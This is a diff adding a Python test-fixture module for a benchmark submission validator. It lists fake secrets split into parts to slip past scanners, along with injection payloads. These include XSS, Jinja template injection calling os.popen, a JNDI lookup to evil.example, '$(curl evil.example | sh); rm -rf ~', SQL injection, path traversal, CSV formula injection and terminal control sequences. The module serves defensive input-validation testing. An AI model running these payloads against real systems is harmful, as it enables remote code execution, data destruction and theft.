@@ -1,0 +1,274 @@
+"""Texts that must not get into a field of a submission, the fields that hold text, and honest messages that must be accepted.
+
+Secrets are made here and open nothing. They are put together from parts, so that scanners of this repository do not find them.
+"""
+
+from copy import deepcopy
+from functools import cache
+from pathlib import Path
+from typing import Any, NamedTuple
+
+from gate_mutations.bases import Content, base, identity_of
+from gate_mutations.corruptions import replace_at
+from gate_mutations.honest import cpu, failed, gpu
+from tunemark.harness.plan.options import Options
+from tunemark.harness.run.record import Superseded
+from tunemark.harness.run.run_outcome import judge
+from tunemark.schema.vocabulary import Status
+
+
+class Text(NamedTuple):
+    """A text that somebody could put into a field."""
+
+    kind: str
+    """`privacy`: it identifies a person or a machine, or opens a door. `abuse`: it attacks a reader or a program."""
+    name: str
+    text: str
+    inert: bool = False
+    """True if a free message may hold it, provided that nothing that shows it acts on it."""
+
+
+HEX = "8f4f1c3a5b7e4d6a9c1e2f3b4a5d6e7f"
+KEY = "Zx81kQmN4vR7tYpL2wHsB9dGfJ3cXe6UaTqMoPi5"
+PRIVATE = {
+    "host name, FQDN": "gpu-node-17.cluster.acme-robotics.internal",
+    "host name, Windows": "DESKTOP-7K2QJ9P",
+    "host name of AWS": "ip-10-0-3-17",
+    "host name, labelled": "hostname=node0042",
+    "nodes of a cluster": "SLURM_JOB_NODELIST=gpu[01-04,17]",
+    "user name": "user=jsmith",
+    "user name in a path": "/home/jane.doe/projects/secret-model/train.py",
+    "path of macOS": "/Users/janedoe/Library/Caches/weights",
+    "path of Windows": r"C:\Users\Jane Doe\models\weights.bin",
+    "path of a share": r"\\fileserver01\research\jane",
+    "path, percent-encoded": "%2Fhome%2Fjane%2Fdata.jsonl",
+    "path, full-width": "／home／jane／data．jsonl",
+    "home directory": "~jane/.cache/huggingface/token",
+    "file URL": "file:///root/run/train.jsonl",
+    "bucket": "s3://acme-robotics-private/checkpoints/run-17",
+    "e-mail": "jane.doe@acme-robotics.com",
+    "e-mail, written out": "jane dot doe at acme-robotics dot com",
+    "e-mail with a name": "Jane Doe <jane@acme-robotics.com>",
+    "IPv4": "192.168.17.44",
+    "IPv4 with port": "10.20.30.40:29500",
+    "IPv6": "fe80::1ff:fe23:4567:890a",
+    "MAC": "00:1A:2B:3C:4D:5E",
+    "MAC with dashes": "00-1A-2B-3C-4D-5E",
+    "GPU UUID": f"GPU-{HEX[:8]}-{HEX[8:12]}-{HEX[12:16]}-{HEX[16:20]}-{HEX[20:]}",
+    "machine id": f"machine-id {HEX}",
+    "serial number": "Serial Number: 1654923004512",
+    "PCI address with serial": "0000:65:00.0 board 900-21010-0000-000 s/n 1320223012345",
+    "AWS key": "AK" + "IA" + "Z7Q3M5X2P9L4T6W8",
+    "AWS secret": f"aws_secret_access_key={KEY}",
+    "ARN": "arn:aws:iam::482917364501:user/jane",
+    "OpenAI key": f"s{'k-proj'}-{KEY}{KEY[:8]}",
+    "Hugging Face token": f"h{'f_'}{KEY[:34]}",
+    "GitHub token": f"gh{'p_'}{KEY[:36]}",
+    "GitHub fine-grained token": f"github{'_pat_'}11ABCDEFG0{KEY}{KEY[:20]}",
+    "GitLab token": f"gl{'pat-'}{KEY[:20]}",
+    "Slack token": f"xo{'xb-'}48291736450-{KEY[:24]}",
+    "Google key": f"AI{'za'}{KEY[:35]}",
+    "Weights & Biases key": f"WANDB_API_KEY={HEX}{HEX[:8]}",
+    "JWT": f"ey{'JhbGciOiJIUzI1NiJ9'}.ey{'JzdWIiOiJqYW5lIn0'}.{KEY}",
+    "private key": "-----BEGIN OPENSSH " + "PRIVATE KEY-----",
+    "public key of SSH": f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{KEY} jane@laptop",
+    "password": "password=hunter2!Tr0ub4dor",
+    "bearer": f"Authorization: Bearer {KEY}",
+    "connection string": f"AccountName=acme;AccountKey={KEY}{KEY}==",
+    "credentials in a URL": "https://jane:s3cret@git.acme-robotics.com/models.git",
+    "token in a URL": f"https://example.com/download?token={KEY}",
+    "environment variable": f"HF_TOKEN=h{'f_'}{KEY[:34]}",
+    "phone": "+49 170 1234567",
+    "kubernetes pod": "train-job-7c9f8d6b5-x2k4q",
+    "container": "container 3f4e5d6c7b8a",
+    "Windows SID": "S-1-5-21-3623811015-3361044348-30300820-1013",
+}
+PRINTABLE = {
+    "script tag": "<script>alert(1)</script>",
+    "image with a handler": "<img src=x onerror=alert(1)>",
+    "drawing with a handler": "<svg/onload=alert(1)>",
+    "frame": '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
+    "closing details": "</details></td></table><h1>Ranked first</h1>",
+    "HTML comment": "<!-- everything after this is gone",
+    "character references": "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+    "HTML in wide": "＜script＞alert(1)＜/script＞",
+    "markdown javascript link": "[click](javascript:alert(1))",
+    "markdown image": "![pixel](//tracker.example/x.png)",
+    "bare URL": "https://evil.example/buy-now",
+    "data URL": "data:text/html;base64,PHNjcmlwdD4=",
+    "markdown heading": "# Fastest device of all",
+    "markdown table": "a | b | c | 999999 tokens/s |",
+    "markdown fence": "``` and the rest of the page is code",
+    "Jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
+    "Jinja import": "{% import 'os' as os %}{{ os.popen('id').read() }}",
+    "format string": "{0.__class__.__init__.__globals__} %s%n%n",
+    "lookup": "${jndi:ldap://evil.example/a}",
+    "shell": "$(curl evil.example | sh); rm -rf ~ `id`",
+    "SQL": "'; DROP TABLE results; --",
+    "path traversal": "../../../../etc/passwd",
+    "CSV equals": "=cmd|' /C calc'!A0",
+    "CSV plus": "+cmd|' /C calc'!A0",
+    "CSV minus": "-2+3+cmd|' /C calc'!A0",
+    "CSV at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "CSV hyperlink": '=HYPERLINK("//evil.example","more")',
+    "GitHub annotation": "::error file=README.md,line=1::owned",
+    "GitHub command": "::add-mask::tunemark",
+    "mention": "@everyone please look, fixes #1",
+    "rich markup": "[bold red]refused[/bold red] [link=//evil.example]x[/link]",
+    "template of JavaScript": "${alert(1)} `+alert(1)+`",
+    "full-width": "ＮＶＩＤＩＡ　Ｈ１００",
+    "2,000 wide": "宽" * 2_000,
+}
+CONTROL = {
+    "ANSI colour": "\x1b[31mrefused\x1b[0m",
+    "ANSI clears the screen": "\x1b[2J\x1b[Hok",
+    "OSC title": "\x1b]0;owned\x07",
+    "OSC link": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
+    "C1 control": "\x9b31mrefused",
+    "newline": "first line\n::error::second line",
+    "carriage return": "refused\raccepted",
+    "backspace": "bad\b\b\bgood",
+    "bell": "done\x07",
+    "NUL": "a\x00b",
+    "delete": "a\x7fb",
+    "form feed": "a\x0cb",
+    "CSV tab": "\t=1+1",
+    "next line": "a\x85b",
+    "line separator": "a\u2028b",
+    "paragraph separator": "a\u2029b",
+    "RTL override": "H100 \u202e0001H\u202c",
+    "RTL isolate": "a \u2067b\u2069 c",
+    "left-to-right mark": "H\u200e100",
+    "zero-width space": "H\u200b100",
+    "zero-width joiner": "NVI\u200dDIA",
+    "word joiner": "NVI\u2060DIA",
+    "byte order mark": "\ufeffNVIDIA",
+    "soft hyphen": "NVI\xadDIA",
+    "Hangul filler": "\u3164",
+    "private use": "\ue000\uf8ff",
+    "tag characters": "NVIDIA\U000e0041\U000e0042",
+    "variation selectors": "H\ufe01100\U000e0101",
+    "not a character": "a\ufffeb",
+    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
+    "Cyrillic look-alikes": "NVIDIА Н100 ok",
+    "Greek look-alikes": "NVIDIΑ Η100 ok",
+    "stacked marks": "Z" + "\u0315\u0322\u0334\u035f" * 40,
+    "only blanks": "     ",
+    "1 MB": "x" * 1_000_000,
+}
+TEXTS: tuple[Text, ...] = (
+    *(Text("privacy", name, text) for name, text in PRIVATE.items()),
+    *(Text("abuse", name, text, inert=True) for name, text in PRINTABLE.items()),
+    *(Text("abuse", name, text) for name, text in CONTROL.items()),
+)
+
+MESSAGE = "outcome.message"
+FIELDS: dict[str, str] = {
+    MESSAGE: "crash",
+    "outcome.fix": "crash",
+    "supersedes_reason": "replacing",
+    "harness.version": "crash",
+    "overrides.0.field": "qlora",
+    "overrides.0.card": "qlora",
+    "overrides.0.run": "qlora",
+    "plan.lora.target_modules.0": "crash",
+    "plan.model.hub_id": "crash",
+    "plan.data.name": "crash",
+    "plan.data.template": "crash",
+    "plan.data.tokenizer": "crash",
+    "plan.reasons.device.count": "crash",
+    "plan.reasons.KEY": "crash",
+    "environment.os": "crash",
+    "environment.python": "crash",
+    "environment.packages.torch": "crash",
+    "environment.packages.KEY": "crash",
+    "environment.runtime.cuda": "crash",
+    "environment.runtime.KEY": "crash",
+    "environment.devices.0.name": "oom",
+    "environment.devices.0.driver": "oom",
+    "environment.cpu": "oom",
+    "process.compile_cache_reason": "crash",
+    "model.parameter_bytes.KEY": "oom",
+    "model.gradient_bytes_reason": "oom",
+    "model.optimizer_state_bytes_reason": "oom",
+    "memory.host_rss.method": "crash",
+    "memory.device_used.reason": "crash",
+    "evaluation.split": "bert",
+    "effective.attention": "oom",
+    "effective.attention_kernel": "oom",
+    "effective.fused_kernels": "oom",
+    "effective.compile": "oom",
+    "effective.gradient_checkpointing": "oom",
+    "effective.compute": "oom",
+    "effective.quantisation": "oom",
+    "effective.optimizer": "oom",
+    "effective.parameters_on.0": "oom",
+    "effective.trainable_dtypes.0": "oom",
+    "effective.process_group": "oom",
+    "effective.sharding": "oom",
+    "gates.0.detail": "oom",
+    "utilisation.energy.reason": "qlora",
+    "utilisation.devices.0.throttle_reasons": "oom",
+    "utilisation.devices.0.throttle_shares.KEY": "oom",
+    "warnings.0.message": "crash",
+    "study.point": "crash",
+}
+"""Each field of a submission that holds text, and the base on which it is tried; KEY is a new name in a mapping."""
+
+
+@cache
+def _crash() -> Content:
+    """Return a run that failed before its first step, whose message is the contributor's to explain."""
+    ending = failed("crash", "OSError: [Errno 5] Input/output error", "run `tunemark doctor`", phase="data")
+    return cpu("lora", 161, ending=ending)
+
+
+@cache
+def _replacing() -> Content:
+    """Return a run that replaces a committed one."""
+    return gpu(160, options=Options(max_steps=120), supersedes=Superseded(identity_of("h100"), "text"))
+
+
+def untouched(name: str) -> Content:
+    """Return a copy of a base of `FIELDS`."""
+    made = {"crash": _crash, "replacing": _replacing}
+    return deepcopy(made[name]()) if name in made else base(name)
+
+
+def with_id(content: Content, number: int) -> Content:
+    """Return a submission with an id of its own."""
+    return {**content, "run_id": f"{int(content['run_id'], 16) ^ (number + 1):032x}"}
+
+
+def with_text(field: str, text: str) -> Content:
+    """Return a submission with a text in a field."""
+    name, status = FIELDS[field], "crash"
+    if field == MESSAGE:
+        # What the harness makes of this message.
+        status = (judge(text) or (Status.CRASH,))[0].value
+        name = "oom" if status == "oom_device" else name
+    content = untouched(name)
+    if name == "crash":
+        content["outcome"]["status"] = status
+    if field == "process.compile_cache_reason":
+        content["process"]["compile_cache"] = None
+    if field == "study.point":
+        content["study"] = {"kind": "sweep", "study_id": "3b1f20c9aa41", "position": 1, "settings_sha256": "1f" * 32, "point": ""}
+    if field == "plan.reasons.device.count":
+        content["plan"]["reasons"]["device.count"] = text
+        return content
+    path: list[str] = field.split(".")
+    value: Any = [text] if path[-1] == "throttle_reasons" else text
+    if path[-1] == "KEY":
+        old = content
+        for step in path[:-1]:
+            old = old[int(step)] if isinstance(old, list) else old[step]
+        old[text[:100]] = {"parameter_bytes": 10, "throttle_shares": 0.01}.get(path[-2], "1.0")
+        return content
+    replace_at(content, path, lambda _: value)
+    return content
+
+
+def messages() -> list[str]:
+    """Return honest messages of failures, in several languages."""
+    return Path(__file__).with_name("honest_messages.txt").read_text(encoding="utf-8").splitlines()
